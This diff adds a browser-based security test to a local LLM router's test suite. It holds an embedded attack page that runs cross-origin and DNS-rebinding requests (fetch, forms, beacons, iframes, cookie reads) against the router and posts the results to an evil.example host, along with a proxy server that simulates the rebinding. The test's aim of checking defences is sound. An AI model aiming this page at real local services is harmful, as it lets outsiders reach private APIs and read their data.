@@ -4302,6 +4302,143 @@ def test_page_from_elsewhere_reaches_no_upstream() -> None:
     assert not stage().heard("csrf-from-elsewhere")
 
 
+ATTACK = """<!doctype html><title>attack</title><form method=post enctype=text/plain
+target=frame><input name='{"model":"MARK-form","x":"' value='"}'></form>
+<iframe name=frame></iframe><script>
+const at = "TARGET", chat = at + "/v1/chat/completions", got = {};
+const ask = name => JSON.stringify({model: "MARK-" + name, messages: []});
+const plain = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
+const read = async (name, url, options) => {
+  try { const r = await fetch(url, options); got[name] = r.type + " " + r.status + " " + await r.text(); }
+  catch (error) { got[name] = "refused"; }
+};
+const load = (tag, url) => new Promise(done => {
+  const node = document.createElement(tag);
+  node.onload = () => done("loaded"); node.onerror = () => done("refused");
+  node.src = url; document.body.append(node); setTimeout(done, 2000, "refused");
+});
+(async () => {
+  await Promise.all([
+    read("running", at + "/api/inflight"), read("logs", at + "/api/logs"),
+    read("models", at + "/v1/models"), read("page", at + "/"),
+    read("blind get", at + "/v1/MARK-blind-get", {mode: "no-cors"}),
+    read("simple", chat, {method: "POST", headers: plain, body: ask("simple")}),
+    read("no-cors", chat, {method: "POST", mode: "no-cors", headers: plain, body: ask("blind")}),
+    read("preflight", chat, {method: "POST", headers: json, body: ask("preflight")}),
+    read("sign-in", at + "/api/signin", {method: "POST", body: "{}"}),
+    read("credentials", at + "/api/inflight", {credentials: "include"}),
+  ]);
+  navigator.sendBeacon(chat, ask("beacon"));
+  document.forms[0].action = chat; document.forms[0].submit();
+  got.script = await load("script", at + "/api/inflight");
+  got.image = await load("img", at + "/v1/MARK-image");
+  const frame = document.createElement("iframe");
+  frame.src = at + "/"; document.body.append(frame);
+  await new Promise(done => { frame.onload = done; setTimeout(done, 2000); });
+  try { got.frame = frame.contentDocument ? frame.contentDocument.body.innerText : "refused"; }
+  catch (error) { got.frame = "refused"; }
+  got.cookie = document.cookie;
+  await fetch("/attack-report", {method: "POST", body: JSON.stringify(got)});
+  if ("NEXT") location = "NEXT";
+})();
+</script>"""
+
+
+class Attacker:
+    """A web site that attacks from a browser; once loaded, its name means the router.
+
+    That is DNS rebinding: `/attack...` is the site's own, all else goes to the router.
+    """
+
+    def __init__(self, router: Router) -> None:
+        self.router, self.page, self.report = router, "", ""
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port = self._listener.getsockname()[1]
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                sock, _ = self._listener.accept()
+                threading.Thread(target=self._serve, args=(sock,), daemon=True).start()
+
+    def _serve(self, sock: socket.socket) -> None:
+        with contextlib.suppress(OSError), sock, sock.makefile("rb") as reader:
+            while received := receive(sock, reader, 0):
+                if received.path == "/attack-report":
+                    self.report = received.content.decode()
+                    sock.sendall(answer(b"")[0])
+                elif received.path == "/attack":
+                    sock.sendall(answer(self.page.encode(), kind="text/html")[0])
+                else:  # as it is, but for the connection
+                    asked = received.raw_head + b"\r\n" + received.content
+                    asked = re.sub(rb"(?i)\r\nconnection: [^\r]*", b"", asked, count=1)
+                    asked = asked.replace(b"\r\n", b"\r\nConnection: close\r\n", 1)
+                    sock.sendall(raw(self.router.port, asked, answers=0))
+                    return
+
+    def close(self) -> None:
+        self._listener.close()
+
+
+def browser() -> str:
+    """Find Chromium. Without it the test is skipped, or fails if all must run."""
+    found = shutil.which("chromium") or shutil.which("chromium-browser")
+    if not found and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
+        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no Chromium")
+    return found or pytest.skip("there is no Chromium")
+
+
+@contextlib.contextmanager
+def surfing(url: str, folder: pathlib.Path) -> Iterator[None]:
+    """A real browser at this address, for whom evil.example is this machine."""
+    flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
+             "--disable-background-networking", f"--user-data-dir={folder}",
+             "--host-resolver-rules=MAP evil.example 127.0.0.1", "--proxy-server=direct://"]
+    process = subprocess.Popen(
+        [browser(), *flags, url], start_new_session=True, stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        yield
+    finally:
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(process.pid, signal.SIGKILL)
+        process.wait()
+
+
+def test_a_real_browser_is_no_way_in(tmp_path: pathlib.Path) -> None:
+    """A page of another origin, one of a rebound name, and both where all is allowed."""
+    closed = shared()
+    settings = {"ALLOWED_ORIGINS": "*", "ALLOWED_HOSTS": "evil.example", "LOG_LEVEL": "ERROR"}
+    opened = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
+    sites = {name: Attacker(router) for name, router in (
+        ("elsewhere", closed), ("rebound", closed), ("allowed", opened), ("own", opened))}
+    urls = {name: f"http://evil.example:{site.port}/attack" for name, site in sites.items()}
+    for (name, site), after in zip(sites.items(), [*list(urls.values())[1:], ""]):
+        target = f"http://127.0.0.1:{site.router.port}" if name in ("elsewhere", "allowed") else ""
+        page = ATTACK.replace("TARGET", target).replace("MARK", name)
+        site.page = page.replace("NEXT", after)
+    with surfing(urls["elsewhere"], tmp_path / "profile"):
+        until(lambda: sites["own"].report, 60)
+    for site in sites.values():
+        site.close()
+    got = {name: json.loads(site.report) for name, site in sites.items()}
+    for name in ("elsewhere", "rebound"):
+        said = " ".join(got[name].values())
+        assert "200" not in said and "SmolRouter" not in said, got[name]
+        assert not stage().heard(name), name
+    # The same attacks do arrive where they are allowed, so they are real ones.
+    assert got["elsewhere"]["models"] == "refused"
+    assert got["rebound"]["running"].startswith("basic 421")
+    assert got["allowed"]["running"] == "refused"  # `*` is for the model API alone
+    for name in ("allowed", "own"):
+        assert "tiny" in got[name]["models"]
+        for kind in ("simple", "preflight", "beacon", "form"):
+            assert until(lambda: stage().heard(f"{name}-{kind}")), (name, kind)
+    assert got["own"]["running"].startswith("basic 200")
+    assert stage().heard("own-blind-get") and not stage().heard("allowed-blind-get")
+
+
 # == the clients that have been slow since the first test ==========================
 
 
